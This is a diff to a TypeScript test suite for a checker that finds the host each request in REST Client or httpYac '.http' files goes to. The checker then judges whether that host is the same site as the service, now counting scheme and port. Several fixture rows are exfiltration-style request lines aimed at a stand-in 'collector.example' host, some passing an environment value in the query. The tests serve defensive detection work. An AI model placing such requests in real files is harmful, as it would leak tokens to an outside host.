@@ -28,7 +28,7 @@ describe('the host a request goes to', () => {
 		['GET {{evil}}/steal', 'collector.example'],
 		['GET {{unknownEnv}}/v1', undefined],
 		['GET /v1/relative', undefined],
-		['GET http://[::1]:8080/x', '::1'],
+		['GET http://[::1]:8080/x', 'http://[::1]:8080'], // scheme and port, where they are not https on 443
 		['GET not a url', undefined],
 		// A reference the file cannot fill, after the host: the host is still known.
 		['GET https://collector.example/steal?t={{unknownEnv}}', 'collector.example'],
@@ -42,10 +42,10 @@ describe('the host a request goes to', () => {
 		['GET https://{{unknownEnv}}/x', undefined],
 		['GET https://collector.example:port/x', undefined], // no URL: nothing to read
 		// No scheme: REST Client and httpYac send `host/path` over http, so the host is what comes first.
-		['GET collector.example', 'collector.example'],
-		['GET collector.example/https:{{unknownEnv}}', 'collector.example'],
+		['GET collector.example', 'http://collector.example'],
+		['GET collector.example/https:{{unknownEnv}}', 'http://collector.example'],
 		// ...and a reference inside that host is filled before it is read.
-		['GET api{{domain}}/v1', 'api.collector.example'],
+		['GET api{{domain}}/v1', 'http://api.collector.example'],
 	];
 	for (const [line, host] of cases) it(`${line} → ${host ?? 'not said'}`, () => assert.equal(requestLineHost(line, variables), host));
 
@@ -94,8 +94,8 @@ describe('the host a request goes to, read as REST Client and httpYac read it (i
 	const cases: Array<[string, string, string[]]> = [
 		['a space in the target: the client reads the whole target', `GET ${SERVICE} @collector.example/x`, ['?']],
 		['a tab in the target', `GET ${SERVICE}\t@collector.example/x`, ['?']],
-		['a relative target: the Host header says where', 'GET /v1/trips\nHost: collector.example\n', ['collector.example']],
-		['a relative target whose Host is the service', 'GET /v1/trips\nHost: user.telematicssdk.com:443\n', ['user.telematicssdk.com']],
+		['a relative target: the Host header says where', 'GET /v1/trips\nHost: collector.example\n', ['http://collector.example']],
+		['a relative target whose Host is the service goes over http', 'GET /v1/trips\nHost: user.telematicssdk.com:443\n', ['http://user.telematicssdk.com:443']],
 		['a relative target without a Host header', 'GET /v1/trips\nAccept: */*\n', ['?']],
 		['a variable defined twice: both readings', `@base = ${SERVICE}\n\n###\nGET {{base}}/a\n\n###\n@base = https://collector.example\nGET {{base}}/b\n`, ['collector.example', 'user.telematicssdk.com']],
 		['a variable name outside the grammar', '@base$ = https://collector.example\n\n###\nGET {{base$}}/x\n', ['?']],
@@ -105,7 +105,7 @@ describe('the host a request goes to, read as REST Client and httpYac read it (i
 		['an escaped @ in a variable\'s value', '@h = user.telematicssdk.com\\@collector.example\n\n###\nGET https://{{h}}/x\n', ['?']],
 		['a definition inside a request body (REST Client reads every line)', `@base = ${SERVICE}\n\n###\nPOST https://x.invalid/\n\n@base = https://collector.example\n\n###\nGET {{base}}/y\n`, ['collector.example', 'user.telematicssdk.com', 'x.invalid']],
 		['a percent escape in the host', 'GET https://collector%2eexample/x', ['?']],
-		['a bare host and path', 'collector.example/x', ['collector.example']],
+		['a bare host and path', 'collector.example/x', ['http://collector.example']],
 		['another scheme', 'WS ws://collector.example/x', ['?']],
 		// Mutation gaps (issue 36): shapes no row held.
 		['an indented request line', '   GET https://collector.example/x\n', ['collector.example']],
@@ -114,23 +114,23 @@ describe('the host a request goes to, read as REST Client and httpYac read it (i
 		['a version after several spaces, then spaces', 'GET https://collector.example   HTTP/1.1  \n', ['collector.example']],
 		['a version of two-digit parts', 'GET https://collector.example HTTP/11.22\n', ['collector.example']],
 		['no method, a version', 'https://collector.example HTTP/1.1\n', ['collector.example']],
-		['plain http with an unfilled reference in the query', 'GET http://collector.example/x?t={{fromEnv}}\n', ['collector.example']],
+		['plain http with an unfilled reference in the query', 'GET http://collector.example/x?t={{fromEnv}}\n', ['http://collector.example']],
 		['a definition without spaces', '@base=https://collector.example\n\n###\nGET {{base}}/x\n', ['collector.example']],
 		['a line that only mentions a definition is none', `@base = ${SERVICE}\n\n###\nPOST {{base}}/x\n\nnote @base = https://collector.example\n`, ['user.telematicssdk.com']],
-		['a schemeless host with a reference after it', 'collector.example/{{x}}\n', ['collector.example']],
-		['a schemeless host and port', 'GET localhost:3000/x\n', ['localhost']],
-		['a schemeless host, port and a reference', 'GET collector.example:8080/{{x}}\n', ['collector.example']],
-		['a Host header filled from a variable', '@h = collector.example\n\n###\nGET /v1/x\nHost: {{h}}\n', ['collector.example']],
+		['a schemeless host with a reference after it', 'collector.example/{{x}}\n', ['http://collector.example']],
+		['a schemeless host and port', 'GET localhost:3000/x\n', ['http://localhost:3000']],
+		['a schemeless host, port and a reference', 'GET collector.example:8080/{{x}}\n', ['http://collector.example:8080']],
+		['a Host header filled from a variable', '@h = collector.example\n\n###\nGET /v1/x\nHost: {{h}}\n', ['http://collector.example']],
 		['a Host header with two readings', `@h = user.telematicssdk.com\n\n###\n@h = collector.example\nGET /v1/x\nHost: {{h}}\n`, ['?']],
 		['a value defined the same way many times is one reading', `${'@base = https://collector.example\n'.repeat(20)}\n###\nGET {{base}}/x\n`, ['collector.example']],
 		['more readings than are followed', `${Array.from({ length: 17 }, (_, i) => `@base = https://h${i}.example\n`).join('')}\n###\nGET {{base}}/x\n`, ['?']],
 		['a host past the longest target read', `GET https://${'a'.repeat(5000)}.telematicssdk.com.collector.example/x\n`, ['?']],
 		// Mutation gaps, second pass (issue 36).
 		['a query continuation straight after the host', `GET ${SERVICE}\n    ?a=1\n`, ['user.telematicssdk.com']],
-		['a colon in the path of a bare host', 'GET collector.example/x:y\n', ['collector.example']],
+		['a colon in the path of a bare host', 'GET collector.example/x:y\n', ['http://collector.example']],
 		['another scheme with a port', 'GET ftp://collector.example:21/x\n', ['?']],
 		['an https URL inside another scheme\'s query', 'WS ws://x.example/?u=https://collector.example/\n', ['?']],
-		['a relative request twice, each with its own Host', 'GET /x\nHost: a.example\n\n###\nGET /x\nHost: b.example\n', ['a.example', 'b.example']],
+		['a relative request twice, each with its own Host', 'GET /x\nHost: a.example\n\n###\nGET /x\nHost: b.example\n', ['http://a.example', 'http://b.example']],
 		['a definition glued to a word is none', `@base = ${SERVICE}\n\n###\nPOST {{base}}/x\n\nmail@base = https://collector.example\n`, ['user.telematicssdk.com']],
 		['as many readings as are followed', `${Array.from({ length: 16 }, (_, i) => `@base = https://h${i}.example\n`).join('')}\n###\nGET {{base}}/x\n`, Array.from({ length: 16 }, (_, i) => `h${i}.example`).sort()],
 		['a chain of 64 references is followed', `${Array.from({ length: 63 }, (_, i) => `@v${i} = {{v${i + 1}}}\n`).join('')}@v63 = https://collector.example\n\n###\nGET {{v0}}/x\n`, ['collector.example']],
@@ -155,15 +155,23 @@ describe('the same site as the service', () => {
 		['api.a.github.io', 'https://a.github.io', true], // ...and one site below it
 		['api.example.co.uk', 'https://user.example.co.uk', true],
 		['example.co.uk', 'https://other.co.uk', false],
-		['localhost', 'http://127.0.0.1:4000', true],
+		['http://localhost:4000', 'http://127.0.0.1:4000', true],
+		['localhost', 'http://127.0.0.1:4000', false], // https on 443: another port
+		['http://localhost:4001', 'http://127.0.0.1:4000', false], // loopback, another port: another program
 		['10.0.0.2', 'https://10.0.0.1', false],
-		['10.0.0.1', 'https://10.0.0.1:8443', true],
+		['https://10.0.0.1:8443', 'https://10.0.0.1:8443', true],
+		['10.0.0.1', 'https://10.0.0.1:8443', false],
 		['intranet', 'https://intranet', true],
 		['intranet', 'https://other', false],
 		['xn--0.example.com', 'https://xn--0.example.com', false], // a service URL that is no URL (bad punycode) matches nothing
 		['localhost', 'https://user.telematicssdk.com', false], // loopback on one side only
 		['user.telematicssdk.com', 'http://127.0.0.1:4000', false],
-		['127.0.0.2', 'http://localhost:4000', true],
+		['http://127.0.0.2:4000', 'http://localhost:4000', true],
+		['http://user.telematicssdk.com', 'https://user.telematicssdk.com', false], // clear text
+		['http://api.telematicssdk.com:8080', 'https://user.telematicssdk.com', false],
+		['https://api.telematicssdk.com:8443', 'https://user.telematicssdk.com', false], // another port
+		['https://api.telematicssdk.com:443', 'https://user.telematicssdk.com', true],
+		['ftp://api.telematicssdk.com', 'https://user.telematicssdk.com', false],
 	];
 	for (const [host, service, same] of cases) it(`${host} vs ${service}: ${same ? 'same' : 'another'} site`, async () => assert.equal(await isSameSite(host, service), same));
 
@@ -224,7 +232,10 @@ describe('request hosts over the real corpus', () => {
 				const url = /^\s*(?:[A-Z]+\s+)?(https?:\/\/[^\s{}]+)(?:\s|$)/i.exec(line)?.[1];
 				if (url) {
 					literal++;
-					assert.equal(host, new URL(url).hostname.toLowerCase().replace(/^\[|\]$/g, ''), `${name}: ${line}`);
+					// https on its own port: the host; anything else says its scheme and port.
+					const u = new URL(url);
+					const expected = u.protocol === 'https:' && u.port === '' ? u.hostname.toLowerCase().replace(/^\[|\]$/g, '') : `${u.protocol}//${u.hostname.toLowerCase()}${u.port ? `:${u.port}` : ''}`;
+					assert.equal(host, expected, `${name}: ${line}`);
 				}
 			}
 		}
